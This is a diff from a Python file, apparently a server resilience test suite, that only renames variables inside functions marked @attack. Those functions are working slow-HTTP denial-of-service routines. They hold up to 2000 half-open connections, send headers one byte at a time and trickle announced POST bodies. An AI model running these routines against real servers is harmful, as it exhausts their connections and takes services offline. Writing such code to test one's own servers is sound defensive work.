@@ -118,14 +118,14 @@ def honest_looking_flood(target: Target) -> None:
 
 @attack
 def idle_connections(target: Target) -> None:
-    held = []
+    sockets = []
     while target.open:
         with contextlib.suppress(OSError):
-            held.append(target.connect())
-            if len(held) % 2:
-                held[-1].sendall(b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ")
-        if len(held) > 2000:
-            held.pop(0).close()
+            sockets.append(target.connect())
+            if len(sockets) % 2:
+                sockets[-1].sendall(b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ")
+        if len(sockets) > 2000:
+            sockets.pop(0).close()
 
 
 @attack
@@ -165,9 +165,9 @@ def connections_that_end_at_once(target: Target) -> None:
 @attack
 def one_byte_at_a_time(target: Target) -> None:
     text = target.head("GET", "/", known=False, more="x-a: " + "a" * 12000 + "\r\n")
-    held = [(target.connect(), itertools.cycle(text[:-4])) for _ in range(400)]
+    connections = [(target.connect(), itertools.cycle(text[:-4])) for _ in range(400)]
     while target.open:
-        for connection, source in held:
+        for connection, source in connections:
             with contextlib.suppress(OSError):
                 connection.send(bytes([next(source)]))
 
@@ -309,13 +309,13 @@ def the_document(target: Target) -> None:
 @attack
 def slow_bodies(target: Target) -> None:
     """A byte now and then of bodies that were announced, with and without a token."""
-    held = []
+    connections = []
     for at in range(400):
         with contextlib.suppress(OSError):
-            held.append(target.connect())
-            held[-1].sendall(target.head("POST", "/api/entries", 200_000, known=bool(at % 2)))
+            connections.append(target.connect())
+            connections[-1].sendall(target.head("POST", "/api/entries", 200_000, known=bool(at % 2)))
     while target.open:
-        for connection in held:
+        for connection in connections:
             with contextlib.suppress(OSError):
                 connection.send(b" ")
 
